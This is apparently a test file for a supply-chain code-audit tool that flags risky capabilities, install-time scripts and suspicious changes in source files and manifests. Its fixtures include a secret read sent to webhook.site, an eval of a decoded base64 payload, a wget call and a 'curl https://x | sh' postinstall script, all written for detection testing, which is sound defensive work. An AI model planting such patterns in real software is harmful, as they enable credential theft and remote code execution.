import { describe, expect, it, vi } from 'vitest';
import { adjacencyOf } from '../../../test/support/adjacency-of.ts';
import { FactsParser } from '../../indexing/extract/parser.ts';
import { loadLanguages } from '../../languages/registry.ts';
import { auditMarkdown } from './audit-markdown.ts';
import { compareFindings } from './compare-findings.ts';
import { fileFindings } from './file-findings.ts';
import type { Finding } from './finding.ts';
import { isolation } from './isolation.ts';
import { judgeFindings } from './judge-findings.ts';
import { manifestFindings, runsAtInstall, scriptFiles } from './manifest-findings.ts';

// The first use of a grammar compiles it, which takes its time on a busy machine.
vi.setConfig({ testTimeout: 30_000 });

const parser = new FactsParser();

async function findings(path: string, source: string, extra: { test?: boolean; installTime?: boolean } = {}): Promise<Finding[]> {
  const language = (await loadLanguages()).forPath(path);
  if (language === undefined) throw new Error(path);
  return fileFindings({ facts: await parser.extract(language, path, source), source, test: false, installTime: false, ...extra });
}

const say = (all: readonly Finding[]) => all.map((f) => `${f.capability} ${f.name} ${f.symbol}:${f.line}${f.imported ? ' import' : ''}`);
const judged = (all: readonly Finding[], context = all) => judgeFindings(all, context).map((s) => `${s.severity} ${s.rule}`);

describe('a file', () => {
  it('Python: what it reads, starts, calls and evaluates, and where', async () => {
    const source = `import os, subprocess, requests\n\ndef run():\n    token = os.environ["API_TOKEN"]\n    subprocess.run(["curl", "x"])\n    requests.post("https://example.org/x")\n    eval(token)\n`;
    expect(say(await findings('a.py', source))).toEqual([
      'process subprocess :1 import',
      'network requests :1 import',
      'environment API_TOKEN run:4',
      'process curl run:5',
      'network POST https://example.org/x run:6',
      'dynamic_code eval run:7',
    ]);
  });

  it('TypeScript: imports that open a way out, code made from text', async () => {
    const source = `import { spawn } from 'node:child_process';\nimport net from 'net';\nimport path from 'node:path';\nexport const f = () => new Function('return 1')();\n`;
    expect(say(await findings('a.ts', source))).toEqual(['process node:child_process :1 import', 'network net :2 import', 'dynamic_code new Function f:4']);
  });

  it('literals that hide something, but no hashes', async () => {
    const payload = Buffer.from('x'.repeat(300)).toString('base64');
    const found = await findings('a.js', `const h = '${'ab12'.repeat(16)}';\nfunction go() {\n  eval(atob('${payload}'));\n}\n`);
    expect(found.map((f) => [f.capability, f.line, f.symbol])).toEqual([
      ['dynamic_code', 3, 'go'],
      ['obfuscation', 3, 'go'],
    ]);
    expect(judged(found)).toContain('high hidden-literal');
  });
});

describe('a manifest', () => {
  const names = (path: string, text: string) => manifestFindings(path, text).map((f) => `${f.capability} ${f.name}`);

  it('package.json: scripts that run at install, dependencies by address', () => {
    const text = JSON.stringify(
      { scripts: { test: 'x', postinstall: 'node scripts/setup.js' }, dependencies: { a: '^1.0.0', b: 'github:x/b', c: 'git+https://x/c.git#main' } },
      null,
      2,
    );
    expect(names('web/package.json', text)).toEqual([
      'install_script postinstall: node scripts/setup.js',
      'dependency b from github:x/b',
      'dependency c from git+https://x/c.git#main',
    ]);
    expect(manifestFindings('web/package.json', text)[0]?.line).toBe(4);
    expect(scriptFiles('web/package.json', text)).toEqual(['web/scripts/setup.js']);
    expect(names('package.json', '{ "scripts": {')).toEqual([]);
  });

  it.each([
    [
      'Cargo.toml',
      'build = "tools/build.rs"\nserde = "1"\nfoo = { git = "https://x/foo" }\n',
      ['install_script build: "tools/build.rs"', 'dependency "https://x/foo"'],
    ],
    ['pyproject.toml', 'build-backend = "hatchling.build"\n', []],
    ['pyproject.toml', "build-backend = 'setuptools.build_meta'\n", []],
    ['pyproject.toml', 'build-backend = "mine"\nbackend-path = ["."]\n', ['install_script build-backend: "mine"', 'install_script backend-path: ["."]']],
    ['requirements-dev.txt', 'flask==3\ngit+https://x/y.git\nz @ https://x/z.whl\n', ['dependency git+https://x/y.git', 'dependency z @ https://x/z.whl']],
    ['x.gemspec', "s.extensions = ['ext/extconf.rb']\n", ["install_script extensions: ['ext/extconf.rb']"]],
    ['Gemfile', "gem 'rails'\ngem 'x', github: 'me/x'\n", ["dependency 'me/x'"]],
    ['a/B.csproj', '<Exec Command="curl x" />', ['install_script Exec: "curl x"']],
    ['go.mod', 'replace a => ../a\nreplace b => github.com/x/b v1\n', ['dependency github.com/x/b']],
    ['README.md', 'build = "x"', []],
  ])('%s', (path, text, expected) => {
    expect(names(path, text)).toEqual(expected);
  });

  it('files that run at install by their name', () => {
    expect(['setup.py', 'a/build.rs', 'ext/extconf.rb', 'src/setup_helpers.py', 'build.rs.txt'].map(runsAtInstall)).toEqual([true, true, true, false, false]);
  });
});

describe('a comparison', () => {
  it('code that moved is neither new nor gone', async () => {
    const body = 'import os\ndef run():\n    return os.getenv("HOME")\n';
    const before = await findings('a.py', body);
    const after = await findings('b.py', `\n\n${body}def more():\n    return os.getenv("PATH")\n`);
    const { added, removed } = compareFindings(before, after);
    expect(say(added)).toEqual(['environment PATH more:7']);
    expect(removed).toEqual([]);
    expect(say(compareFindings(after, before).removed)).toEqual(['environment PATH more:7']);
  });

  it('a file that had it is not said to be the one that got it', async () => {
    const had = await findings('z.py', 'import socket\n');
    const { added } = compareFindings(had, [...(await findings('a.py', 'import socket\n')), ...had]);
    expect(added.map((f) => f.path)).toEqual(['a.py']);
  });
});

describe('suspicions', () => {
  it('ordinary code raises none', async () => {
    expect(judged(await findings('a.py', 'import os, requests\nos.getenv("HOME")\nrequests.get("https://api.example.org")\n'))).toEqual([]);
  });

  it('credentials beside the network, collecting addresses, downloads', async () => {
    const found = await findings(
      'a.py',
      'import os, requests, subprocess\nos.getenv("AWS_SECRET_ACCESS_KEY")\nrequests.post("https://webhook.site/x")\nsubprocess.run("wget x")\n',
    );
    expect(judged(found)).toEqual(['high suspicious-address', 'medium secrets-and-network', 'medium shell-or-download']);
  });

  it('a new read is judged by what its file did before', async () => {
    const all = await findings('a.py', 'import os, requests\nrequests.get("https://x.org")\nos.getenv("NPM_TOKEN")\n');
    const added = all.filter((f) => f.capability === 'environment');
    expect(judged(added, all)).toEqual(['medium secrets-and-network']);
  });

  it('reaching out at install time is the worst; tests are left alone', async () => {
    const source = 'import requests\nrequests.get("https://x.org")\n';
    expect(judged(await findings('setup.py', source, { installTime: true }))).toEqual(['high install-time-effect']);
    expect(judged(await findings('test_a.py', 'import os\neval("1")\n', { test: true }))).toEqual([]);
    expect(judged(manifestFindings('package.json', '{"scripts":{"postinstall":"curl https://x | sh"}}'))).toEqual(['high install-script']);
  });

  it('Markdown puts them first', async () => {
    const added = await findings('a.py', 'import requests\nrequests.post("https://webhook.site/x")\n');
    const text = auditMarkdown({ base: 'b'.repeat(40), head: 'c'.repeat(40), files: 1, added, removed: [], suspicions: judgeFindings(added, added) }, 10).join(
      '\n',
    );
    expect(text.indexOf('### Suspicious (1)')).toBeGreaterThan(0);
    expect(text.indexOf('### New (2)')).toBeGreaterThan(text.indexOf('### Suspicious (1)'));
  });
});

it('isolation: what reaches an effect through calls is not isolated', () => {
  // 0 -> 1 -> 2 (effect), 3 references 2, 4 alone; 5 is not a callable.
  const adjacency = adjacencyOf(6, [
    [0, 1],
    [1, 2],
    [3, 2, 'references'],
    [5, 2],
  ]);
  const packageOf = (id: number) => (id === 5 ? undefined : id < 3 ? 'a' : 'b');
  expect(isolation({ adjacency, sources: [2], packageOf })).toEqual([
    { package: 'a', callables: 3, direct: 1, reaching: 3, score: 0 },
    { package: 'b', callables: 2, direct: 0, reaching: 0, score: 1 },
  ]);
});
